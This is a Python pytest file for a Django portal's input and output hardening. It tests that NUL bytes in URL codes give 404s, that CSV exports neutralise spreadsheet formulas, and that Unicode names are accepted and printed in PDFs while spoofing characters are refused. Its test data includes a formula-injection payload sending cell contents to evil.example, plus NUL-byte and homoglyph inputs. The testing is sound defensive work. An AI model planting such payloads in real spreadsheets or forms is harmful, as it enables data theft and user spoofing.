"""Issue 15, input and output: what comes in through a URL or a name, and what goes out as CSV and PDF.

- A NUL byte (or anything else) where a PID/SL code belongs is a 404, never a 500 (ASVS 1.2.x,
  2.2.1; posc/converters.py).
- Every CSV the portal produces starts with a UTF-8 BOM and writes a would-be formula as text
  (ASVS 1.2.10; posc/spreadsheet.py), read back here as a spreadsheet reads it: decoded as
  utf-8-sig, split by Python's csv module.
- Names of any script are accepted and refused only for what is not a name (US-01, US-02;
  posc/forms.py), and the review PDF prints them as written (AR-04; audit/reviews/fonts.py).
"""

import csv
import hashlib
import io
import unicodedata

import pytest
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from pypdf import PdfReader

from audit.models import Report, ReviewItem
from audit.reviews import services as reviews
from audit.reviews.fonts import fallback_fonts, unicode_fonts
from audit.reviews.reports import report_build, report_path
from audit.services import audit_record
from posc import spreadsheet
from posc.forms import NameField
from providers.models import Access
from tests import factories
from tests.view_helpers import new_person

User = get_user_model()

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULAS = (HYPERLINK, "+1+2", "-3+4", "@SUM(A1)", "\tTAB", "\rCR")
NAMES = ("Nguyễn", "Zoë", "José", "O'Brien-Smith", "O’Neill", "Ελένη", "Анна", "李")


# --- A NUL byte in a PID/SL segment (ASVS 1.2.x, 2.2.1) ---


def _pidsl_routes(patterns=None, prefix=""):
    """Every URL that takes a PID/SL code, as (name, route)."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{entry.namespace}:" if entry.namespace else ""
            yield from ((namespace + n, r) for n, r in _pidsl_routes(entry.url_patterns, prefix + str(entry.pattern)))
        elif isinstance(entry, URLPattern) and "pidsl" in entry.pattern.converters:
            yield entry.name, prefix + str(entry.pattern)


PIDSL_ROUTES = sorted(_pidsl_routes())


def test_every_pidsl_segment_uses_the_code_converter():
    assert len(PIDSL_ROUTES) >= 8  # results, add, link, update, reset, remove, backup, primary-change
    assert all("<pidsl:pidsl>" in route for _, route in PIDSL_ROUTES), PIDSL_ROUTES


NOT_CODES = ["%00", "110000001%00", "%00110000001A", "110000001a", "１１００００００１A", "x" * 300]


@pytest.mark.parametrize("segment", NOT_CODES)
@pytest.mark.parametrize(("name", "route"), PIDSL_ROUTES)
def test_a_nul_or_any_non_code_in_a_pidsl_segment_is_a_404(client, cast, name, route, segment):
    client.force_login(cast.alice)  # an administrator of 110000001A, so only the segment is wrong
    path = "/" + route.replace("<pidsl:pidsl>", segment).replace("<int:access_id>", "1")
    for method in (client.get, client.post):
        assert method(path).status_code == 404, path


def test_the_issues_urls_with_a_nul_are_404s(client, cast):
    client.force_login(cast.alice)
    for path in ("/administer/%00/subordinates/", "/administer/%00/primary-change/", "/providers/%00/primary-change/"):
        assert client.get(path).status_code == 404, path
    # The real code still resolves: the converter refuses only what is not a code.
    assert client.get(reverse("subordinates:results", kwargs={"pidsl": cast.pidsl_a.code})).status_code == 200


# --- CSV: formula injection and the BOM (ASVS 1.2.10) ---


def spreadsheet_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(spreadsheet.BOM_BYTES)  # Excel reads the file as UTF-8 only with it
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_shared_cell_rule():
    for formula in FORMULAS:
        assert spreadsheet.cell(formula) == "'" + formula
    for plain in ("Nguyễn", "O'Brien", "110000001A", "a=b", "", "#1"):
        assert spreadsheet.cell(plain) == plain
    assert spreadsheet.cell(None) == "" and spreadsheet.cell({"b": 1}) == '{"b": 1}'


@pytest.fixture
def hostile_people(cast):
    """Users whose stored names are formulas (from before the name rule, the admin, or a user ID
    that starts with "-"), and one named as a Vietnamese name is written, all at 110000001A."""
    people = [
        factories.UserFactory(last_name=formula, first_name="Mallory", username=f"m{n}", home_organization=cast.eddys)
        for n, formula in enumerate(FORMULAS)
    ]
    people.append(factories.UserFactory(last_name="Nguyễn", first_name="Zoë", username="-znguyen"))
    for person in people:
        factories.AccessFactory(user=person, pidsl=cast.pidsl_a, role=Access.Role.SUBORDINATE)
    return people


def _completed_review(cast, organization_name, capture):
    """Eddy's, renamed, reviews its access: everyone kept, completed, both report files built."""
    cast.eddys.name = organization_name
    cast.eddys.save()
    review = reviews.review_create(organization=cast.eddys, actor=cast.alice)
    for admin in (cast.alice, cast.bob, cast.dave, cast.agency):
        reviews.review_keep_remaining(actor=admin, review=review)
    with capture(execute=True):
        reviews.review_complete(actor=cast.alice, review=review, attested=True)
    return review


def _by_username(rows, columns):
    header, *body = rows
    assert header == columns
    return {row[header.index("Username")]: dict(zip(header, row, strict=True)) for row in body}


def test_the_user_access_report_reads_back_as_text_in_a_spreadsheet(cast, hostile_people):
    report = report_build(reviews.user_access_report_request(actor=cast.compliance, organization=cast.eddys).pk)
    data = report_path(report).read_bytes()
    # The BOM is part of the file its fingerprint covers (HashingWriter, AU-02).
    assert hashlib.sha256(data).hexdigest() == report.sha256 and len(data) == report.size

    from audit.reviews.reports import USER_ACCESS_COLUMNS

    rows = _by_username(spreadsheet_rows(data), USER_ACCESS_COLUMNS)
    for n, formula in enumerate(FORMULAS):
        assert rows[f"m{n}"]["Last name"] == "'" + formula
    assert rows["'-znguyen"]["Last name"] == "Nguyễn" and rows["'-znguyen"]["First name"] == "Zoë"
    assert rows["carol"]["Last name"] == cast.carol.last_name  # ordinary cells untouched


def test_the_review_csv_reads_back_as_text_in_a_spreadsheet(cast, hostile_people, django_capture_on_commit_callbacks):
    review = _completed_review(cast, "Eddy's, =Group\r\n=HYPERLINK(1)", django_capture_on_commit_callbacks)
    report = Report.objects.get(review=review, kind=Report.Kind.REVIEW_CSV)
    data = report_path(report).read_bytes()
    assert hashlib.sha256(data).hexdigest() == report.sha256

    from audit.reviews.reports import REVIEW_COLUMNS

    rows = spreadsheet_rows(data)
    # The header row first and every row as wide (a spreadsheet opens it square); the organization's
    # name, with its comma, line break and "=", is in the PDF's summary, not in the table.
    assert rows[0] == REVIEW_COLUMNS and {len(row) for row in rows} == {len(REVIEW_COLUMNS)}
    table = _by_username(rows, REVIEW_COLUMNS)
    assert table["m0"]["Last name"] == "'" + HYPERLINK
    assert table["'-znguyen"]["Last name"] == "Nguyễn"


def test_the_audit_trail_export_has_the_bom_and_the_same_guard(client, cast):
    audit_record(action="org_enroll", actor=cast.agency, organization=cast.eddys, detail=HYPERLINK)
    audit_record(action="org_enroll", actor=cast.agency, organization=cast.eddys, detail="Nguyễn enrolled")
    client.force_login(cast.agency)

    response = client.get(reverse("audit:export"))

    rows = spreadsheet_rows(b"".join(response.streaming_content))
    details = {row[rows[0].index("Detail")] for row in rows[1:]}
    assert "'" + HYPERLINK in details and "Nguyễn enrolled" in details
    assert HYPERLINK not in details


# --- Names beyond ASCII (US-01, US-02) ---


@pytest.mark.parametrize("name", NAMES + ("Kaʻahumanu", "J. R.", "山田たろう", "Jean-Luc", "Mary Ann"))
def test_real_names_of_any_script_are_accepted(name):
    assert NameField(max_length=150).clean(name) == unicodedata.normalize("NFC", name)


@pytest.mark.parametrize(
    "name",
    [
        "Jo\u200dse",  # zero-width joiner (Cf)
        "Jo\u202ese",  # right-to-left override (Cf)
        "Jo\u200bse",  # zero-width space (Cf)
        "Jo\x07se",  # a control character (Cc)
        "Jo\u2028se",  # line separator (Zl)
        "Jo\u2029se",  # paragraph separator (Zp)
        "Jo\u00a0se",  # no-break space
        "Аlice",  # Cyrillic А with Latin letters (TR 39 mixed script)
        "Ｊｏｓｅ",  # full-width
        "𝐉𝐨𝐬𝐞",  # mathematical bold
        "José1",
        "-José",
        "'José",
        "=HYPERLINK(1)",
        "Jose" + "\u0301" * 5,  # a letter buried under marks
    ],
)
def test_what_is_not_a_name_is_still_refused(name):
    from django import forms

    with pytest.raises(forms.ValidationError):
        NameField(max_length=150).clean(name)


def _add(client, cast, **person):
    return client.post(reverse("subordinates:add", kwargs={"pidsl": cast.pidsl_a.code}), new_person(**person))


def test_add_subordinate_takes_nguyen_zoe_and_jose(client, cast):
    client.force_login(cast.alice)
    for n, (last, first) in enumerate((("Nguyễn", "Zoë"), ("Núñez", "José"), ("O'Brien-Smith", "Seán"))):
        response = _add(client, cast, last_name=last, first_name=first, pin=f"{4000 + n}")
        assert response.status_code in (200, 302) and "usa-error-message" not in response.content.decode()
        assert User.objects.filter(last_name=last, first_name=first).exists()
    assert User.objects.get(last_name="Nguyễn").username.startswith("znguyen")


def test_a_decomposed_spelling_is_the_same_person_for_us01(client, cast):
    client.force_login(cast.alice)
    _add(client, cast, last_name="Jos\u00e9", first_name="Ana", pin="4100")
    before = User.objects.count()

    response = _add(client, cast, last_name="Jose\u0301", first_name="Ana", pin="4100")

    assert User.objects.count() == before  # one user ID per person: the same name, NFC
    assert "US-01" in response.content.decode()
    assert User.objects.filter(last_name="Jos\u00e9", first_name="Ana").count() == 1


def test_a_latin_name_with_a_cyrillic_look_alike_part_is_refused(client, cast):
    client.force_login(cast.alice)
    before = User.objects.count()

    response = _add(client, cast, last_name="Rivera", first_name="Gіna")  # Cyrillic і

    assert User.objects.count() == before
    assert "one alphabet" in response.content.decode()


def test_registration_takes_a_name_beyond_ascii():
    from providers.agency_forms import DesigneeFields

    form = DesigneeFields(
        {"designee_first_name": "Zoë", "designee_last_name": "Nguyễn", "designee_email": "zoe@example.org"}
    )
    assert form.is_valid(), form.errors
    mixed = DesigneeFields(
        {"designee_first_name": "Zoë", "designee_last_name": "Иванова", "designee_email": "zoe@example.org"}
    )
    assert not mixed.is_valid() and "one alphabet" in str(mixed.errors)


# --- The review PDF prints every name as written (AR-04) ---


def test_the_review_pdf_prints_every_name_as_written(cast, django_capture_on_commit_callbacks):
    assert unicode_fonts(), "the review PDF needs Debian's fonts-dejavu-core: make fonts"
    assert fallback_fonts(), "the review PDF needs Debian's fonts-droid-fallback for Chinese names: make fonts"
    people = [
        factories.UserFactory(last_name=last, first_name=first, username=f"p{n}", home_organization=cast.eddys)
        for n, (last, first) in enumerate(
            (("Nguyễn", "Zoë"), ("Núñez", "José"), ("Παπαδοπούλου", "Ελένη"), ("Иванова", "Анна"), ("李", "小龍"))
        )
    ]
    for person in people:
        factories.AccessFactory(user=person, pidsl=cast.pidsl_a, role=Access.Role.SUBORDINATE)
    review = _completed_review(cast, "Eddy’s Gruppenpraxis Müller", django_capture_on_commit_callbacks)
    report = Report.objects.get(review=review, kind=Report.Kind.REVIEW_PDF)

    reader = PdfReader(report_path(report))
    text = "".join(page.extract_text() for page in reader.pages)

    assert "Eddy’s Gruppenpraxis Müller" in text
    for person in people:
        assert f"{person.last_name}, {person.first_name} ({person.username})" in text, person.last_name
    assert "Nguy?n" not in text
    assert ReviewItem.objects.filter(review=review).count() == report.rows_total


def test_check_deploy_fails_without_the_pdf_fonts(settings):
    from audit.reviews.fonts import check_pdf_fonts

    assert check_pdf_fonts() == []
    settings.POSC_PDF_FONT = "/nonexistent/DejaVuSans.ttf"
    settings.POSC_PDF_FALLBACK_FONTS = ["/nonexistent/DroidSansFallbackFull.ttf"]
    assert {message.id for message in check_pdf_fonts()} == {"audit.E001", "audit.W001"}
